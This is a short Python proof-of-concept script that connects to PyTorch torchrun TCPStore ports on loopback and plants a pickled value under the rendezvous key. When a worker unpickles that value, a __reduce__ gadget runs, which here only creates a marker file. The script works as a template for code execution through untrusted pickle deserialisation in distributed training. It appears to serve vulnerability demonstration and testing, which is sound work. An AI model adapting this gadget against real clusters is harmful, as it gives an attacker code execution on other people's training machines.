"""What whoever reaches the store of a torchrun can do: replace the value that it unpickles every few seconds.

    python attack_store.py MARKER PORT...

Prints the ports on loopback that took the value, as a JSON list. It is harmless: unpickled, it makes the file MARKER.
"""

from __future__ import annotations

import base64
import json
import pickle
import sys
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

PATIENCE = timedelta(seconds=5)


class Marker:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple:
        return Path.touch, (self.path,)


def takes(port: int, value: bytes) -> bool:
    try:
        store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=PATIENCE, wait_for_workers=False)
        store.set("torch.rendezvous.none", value)
    except RuntimeError:  # those of torch.distributed are
        return False
    return True


def main() -> None:
    marker, *ports = sys.argv[1:]
    value = base64.b64encode(pickle.dumps(Marker(Path(marker))))
    with ThreadPoolExecutor(len(ports)) as pool:
        took = list(pool.map(lambda port: takes(port, value), map(int, ports)))
    print(json.dumps([int(port) for port, yes in zip(ports, took, strict=True) if yes]))


if __name__ == "__main__":
    main()
